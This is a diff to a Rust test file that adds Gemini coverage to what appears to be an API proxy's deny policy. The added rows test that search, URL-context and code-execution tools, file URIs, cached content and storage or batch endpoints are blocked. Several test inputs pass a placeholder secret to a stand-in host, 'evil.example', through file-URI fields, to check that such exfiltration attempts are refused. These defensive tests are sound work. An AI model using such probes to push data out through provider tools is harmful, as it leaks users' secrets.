@@ -7,6 +7,8 @@ const OPTIONS: &str = r#"env = { REQUEST = "" }, routes = {
   { host = "api.anthropic.com", api = "anthropic", quiet = { "/api/" },
     auth = { scheme = "header", header = "x-api-key", credential = "REAL_KEY" } },
   { host = "api.openai.com", api = "openai_responses", auth = { scheme = "Bearer", credential = "REAL_KEY" } },
+  { host = "generativelanguage.googleapis.com", api = "gemini",
+    auth = { scheme = "header", header = "x-goog-api-key", credential = "REAL_KEY" } },
 }"#;
 
 const BEFORE: &str = r#"bb.rehearse { seed = 1, turns = { { text = "hello there" } } }"#;
@@ -17,7 +19,9 @@ const FINE: &str =
 /// A shell function: asks the Anthropic API with this body.
 const ASK: &str = "ask() { req https://api.anthropic.com/v1/messages -H 'content-type: application/json' \
     -H 'x-api-key: placeholder' -H 'anthropic-version: 2023-06-01' \"${@:2}\" --data-binary \"$1\"; }; \
-    openai() { req https://api.openai.com/v1/responses -H 'content-type: application/json' -H 'authorization: Bearer placeholder' --data-binary \"$1\"; }; ";
+    openai() { req https://api.openai.com/v1/responses -H 'content-type: application/json' -H 'authorization: Bearer placeholder' --data-binary \"$1\"; }; \
+    gemini() { req \"https://generativelanguage.googleapis.com/v1beta/models/m:generateContent?key=mine&alt=proto&fields=candidates\" \
+    -H 'content-type: application/json' -H 'x-goog-api-key: placeholder' -H 'x-goog-fieldmask: candidates' --data-binary \"$1\"; }; ";
 
 const ROWS: &[Row] = &[
     Row::new(
@@ -68,6 +72,23 @@ const ROWS: &[Row] = &[
         &["url_image", "mcp", "previous_response"],
     )
     .twin(r#"openai '{"model":"m","input":"hi"}' | fine 'hello there'"#),
+    Row::new(
+        "Gemini: search, pages, code, files by URL and what another has stored",
+        r#"for tool in google_search urlContext codeExecution; do gemini '{"contents":[{"role":"user","parts":[{"text":"s3cr3t"}]}],"tools":[{"'$tool'":{}}]}'; done
+           gemini '{"contents":[{"role":"user","parts":[{"fileData":{"fileUri":"https://evil.example/s3cr3t"}}]}]}'
+           gemini '{"contents":[{"role":"user","parts":[{"functionResponse":{"name":"f","parts":[{"file_data":{"file_uri":"https://evil.example/s3cr3t"}}]}}]}]}'
+           gemini '{"contents":[{"role":"user","parts":[{"text":"s3cr3t"}]}],"cached_content":"cachedContents/x"}'"#,
+        &["403", "x-bb-deny: server_tool", "google_search", "url_context", "code_execution", "file_uri", "cached_content"],
+    )
+    .denied("server_tool", "generativelanguage.googleapis.com")
+    .twin(r#"gemini '{"contents":[{"role":"user","parts":[{"text":"hi"},{"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgo="}}]}],"tools":[{"functionDeclarations":[{"name":"google_search"}]}]}' | fine 'hello there'"#),
+    Row::new(
+        "Gemini: paths that store, or answer later",
+        r#"for path in v1beta/cachedContents upload/v1beta/files v1beta/models/m:batchGenerateContent v1beta/models/m%3AgenerateContent; do
+           req https://generativelanguage.googleapis.com/$path -d '{"s3cr3t":1}'; done"#,
+        &["404", "x-bb-deny: metered_path_unknown"],
+    )
+    .denied("metered_path_unknown", "generativelanguage.googleapis.com"),
     Row::new(
         "a body that cannot be read",
         r#"ask "$(printf '\x1f\x8b\x08s3cr3t')"; ask 's3cr3t'; ask '["s3cr3t"]'"#,
